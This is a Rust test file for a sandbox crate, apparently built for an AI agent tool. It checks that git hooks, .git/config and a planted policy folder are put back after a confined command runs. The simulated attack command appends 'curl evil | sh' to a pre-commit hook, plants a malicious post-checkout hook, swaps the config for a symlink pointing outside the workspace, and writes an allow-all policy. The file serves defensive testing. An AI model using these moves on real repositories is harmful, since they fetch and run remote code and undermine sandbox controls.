//! Without user namespaces (Ubuntu 24.04; simulated with `POCKETPILOT_SANDBOX=no-userns`)
//! `.git/hooks` and `.git/config` are put back when the call ends. Own test binary: the
//! switch is process-wide.
#![allow(clippy::unwrap_used, clippy::expect_used)]
mod common;

use common::World;
use pocketpilot_sandbox::{confine, probe, GitMetadata, SandboxStatus};

#[tokio::test]
async fn hooks_and_config_are_restored_after_the_call() {
    std::env::set_var("POCKETPILOT_SANDBOX", "no-userns");
    let status = probe();
    let SandboxStatus::Sandboxed { git_metadata, .. } = status else {
        panic!("{status:?}");
    };
    assert_eq!(git_metadata, GitMetadata::RestoredAfterCall);
    assert!(status.details().contains("restored after each call"));

    let w = World::new();
    let git = |args: &str| {
        let ok = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("git {args}"))
            .current_dir(&w.ws)
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args}");
    };
    git("init -q");
    let hook = w.ws.join(".git/hooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    let config = w.ws.join(".git/config");
    let config_before = std::fs::read(&config).unwrap();
    let victim = w.outside.join("victim");

    let mut cmd = tokio::process::Command::new("/bin/sh");
    cmd.arg("-c")
        .arg(format!(
            "echo 'curl evil | sh' >> .git/hooks/pre-commit && \
             printf '#!/bin/sh\\necho evil\\n' > .git/hooks/post-checkout && \
             ln -s '{}' .git/config.new && mv -f .git/config.new .git/config && \
             echo x > a && git -c user.name=t -c user.email=t@e add a && \
             git -c user.name=t -c user.email=t@e commit -qm inside && echo COMMITTED",
            victim.display()
        ))
        .current_dir(&w.ws)
        .stdout(std::process::Stdio::piped());
    let mut guard = confine(&mut cmd, &w.policy()).unwrap();
    let out = cmd.output().await.unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("COMMITTED"), "{text}");
    // Changed during the call (nothing stops it without namespaces)…
    assert!(std::fs::symlink_metadata(&config).unwrap().is_symlink());
    let mut restored: Vec<_> = guard
        .restore_git_metadata()
        .into_iter()
        .map(|r| r.path)
        .collect();
    restored.sort();
    // …and put back after it, without writing through the planted symlink.
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(std::fs::read(&config).unwrap(), config_before);
    assert!(!w.ws.join(".git/hooks/post-checkout").exists());
    assert!(!victim.exists());
    assert!(
        restored.contains(&config) && restored.contains(&hook),
        "{restored:?}"
    );
    assert!(restored.contains(&w.ws.join(".git/hooks/post-checkout")));
    git("log --oneline -1");
}

#[tokio::test]
async fn a_pocketpilot_folder_the_command_created_is_removed_after_the_call() {
    std::env::set_var("POCKETPILOT_SANDBOX", "no-userns");
    let w = World::new();
    let own = w.ws.join(".pocketpilot");
    let mut cmd = tokio::process::Command::new("/bin/sh");
    cmd.arg("-c")
        .arg("mkdir .pocketpilot && echo '{\"allow\":[\"*\"]}' > .pocketpilot/policy.json && echo PLANTED")
        .current_dir(&w.ws)
        .stdout(std::process::Stdio::piped());
    let mut guard = confine(&mut cmd, &w.policy()).unwrap();
    let out = cmd.output().await.unwrap();
    // Without namespaces nothing stops it during the call…
    assert!(String::from_utf8_lossy(&out.stdout).contains("PLANTED"));
    assert!(own.join("policy.json").exists());
    // …and it is gone when the call ends, reported with what was restored.
    let restored = guard.restore_git_metadata();
    assert!(restored.iter().any(|r| r.path == own), "{restored:?}");
    assert!(own.symlink_metadata().is_err());
}
